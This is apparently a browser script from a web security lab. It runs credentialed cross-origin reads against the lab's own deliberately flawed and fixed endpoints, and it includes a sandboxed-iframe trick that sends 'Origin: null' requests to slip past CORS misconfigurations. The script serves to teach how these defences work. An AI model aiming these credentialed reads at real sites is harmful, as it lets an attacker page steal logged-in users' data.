// The leak attacks (backend/leaks/catalogue.py), run from whichever host serves this script: the
// cross-site attacker, a look-alike host, or the same-site sibling. Each reads the victim's data
// from /leaks/<entry>/mistake/me/ and /leaks/<entry>/fixed/me/ with the victim's cookies, and
// shows only what this page could read. Which defence held is on the app's leaks page (the ledger).

// Every sentence this script writes, in one place for translation.
const TEXT = {
  readable: (status, body) => `READ by this page: HTTP ${status} ${body}`,
  threw: (error) => `fetch() threw ${error}: nothing readable.`,
  nothing: "No leak entry is aimed from this host.",
  sandboxed: "(from a sandboxed iframe: Origin: null)",
};

const params = new URLSearchParams(location.search);
const runId = params.get("run") ?? `leak-${crypto.getRandomValues(new Uint32Array(2)).join("")}`;
const config = await (await fetch("/lab-config.json")).json();
// The catalogue is public (Access-Control-Allow-Origin: *, no credentials).
const { leaks } = await (await fetch(`${config.api}/leaks/`)).json();

// Who this host is in the catalogue's terms: the sibling, the attacker or one of the look-alikes.
const role = location.origin === config.sibling ? "sibling"
  : location.origin === config.attacker ? "attacker"
    : Object.keys(config.lookalikes).find((kind) => config.lookalikes[kind] === location.origin);
// The sibling tries every read with its own origin; a cross-site host runs the entries aimed from it.
const aimed = leaks.filter((leak) => leak.attack === "read"
  && (role === "sibling" || leak.cross_site_attacker === role));

async function readFromHere(url) {
  try {
    const response = await fetch(url, { credentials: "include" });
    return { readable: true, text: TEXT.readable(response.status, await response.text()) };
  } catch (error) {
    return { readable: false, text: TEXT.threw(`${error.name}: ${error.message}`) };
  }
}

// A sandboxed frame without allow-same-origin has an opaque origin: its fetch says Origin: null.
function readFromSandbox(url) {
  return new Promise((resolve) => {
    const key = crypto.getRandomValues(new Uint32Array(1))[0];
    const onMessage = (event) => {
      if (event.data?.key !== key) return;
      removeEventListener("message", onMessage);
      frame.remove();
      resolve(event.data.readable ? { readable: true, text: TEXT.readable(event.data.status, event.data.body) }
        : { readable: false, text: TEXT.threw(event.data.error) });
    };
    addEventListener("message", onMessage);
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.hidden = true;
    frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, {credentials: "include"})
      .then(async (r) => parent.postMessage({key: ${key}, readable: true, status: r.status, body: await r.text()}, "*"))
      .catch((e) => parent.postMessage({key: ${key}, readable: false, error: e.name + ": " + e.message}, "*"));<\/script>`;
    document.body.append(frame);
  });
}

async function runAll() {
  const list = document.querySelector("[data-leak-results]");
  list.replaceChildren();
  if (!aimed.length) list.append(Object.assign(document.createElement("li"), { textContent: TEXT.nothing }));
  for (const leak of aimed) {
    for (const variant of ["mistake", "fixed"]) {
      const url = `${config.api}/leaks/${leak.slug}/${variant}/me/?run=${encodeURIComponent(runId)}`;
      const sandboxed = leak.null_origin && role !== "sibling";
      const result = await (sandboxed ? readFromSandbox(url) : readFromHere(url));
      const item = document.createElement("li");
      item.dataset.leakResult = `${leak.slug}/${variant}`;
      item.dataset.readable = String(result.readable);
      item.textContent = `${leak.slug} (${variant}) ${sandboxed ? TEXT.sandboxed : ""}: ${result.text}`;
      list.append(item);
    }
  }
  document.body.dataset.leaksDone = "true";
}

document.querySelector('[data-testid="leak-run-id"]').textContent = runId;
document.querySelector('[data-action="run-leaks"]').addEventListener("click", runAll);
document.body.dataset.leaksReady = "true";
